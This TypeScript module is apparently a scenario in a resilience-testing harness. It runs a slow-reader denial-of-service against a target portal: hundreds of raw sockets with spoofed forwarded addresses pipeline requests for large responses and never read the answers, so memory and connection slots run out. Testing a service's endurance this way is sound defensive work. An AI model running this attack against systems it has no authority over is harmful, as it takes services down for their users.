import { ADDRESSES } from '#contract/addresses.ts'
import type { Attack } from '../attack.ts'
import { forwardedLine, hangUp, openLines } from '../raw-lines.ts'

const LINES = { short: 120, full: 600 } as const
const LINES_EACH = 20
/** Answers of a connection that nobody reads, so that the buffers between are full. */
const ANSWERS_EACH = 20

/** Big answers are asked for and not read: each may hold memory and a place until the end of time. */
export const slowReaders: Attack = {
  name: 'big answers, nothing read',
  loses: 'memory runs out, or no place is left for customers',
  async run({ target, strangers, size, from, endure }) {
    const { host } = new URL(target.portalUrl)
    const lines = LINES[size]
    const addresses = Array.from({ length: lines }, (_, n) =>
      from(Math.floor(n / LINES_EACH), 1 + (n % LINES_EACH)),
    )
    const opened = await openLines(target, addresses)
    const paths = [
      `${ADDRESSES.shops.path}?lat=0.31&lng=32.58&radius=100`,
      '/openapi.json',
      '/data-bundle?service=ALL',
    ]
    for (const [n, socket] of opened.entries()) {
      socket.pause()
      const asked = `GET ${paths[n % paths.length]} HTTP/1.1\r\nhost: ${host}\r\n${forwardedLine(target, addresses[n] ?? '')}\r\n`
      socket.write(asked.repeat(ANSWERS_EACH))
    }
    strangers.count('never read', opened.length * ANSWERS_EACH)
    if (opened.length < lines) strangers.count('not let in', lines - opened.length)
    await endure()
    hangUp(opened)
    return []
  },
}
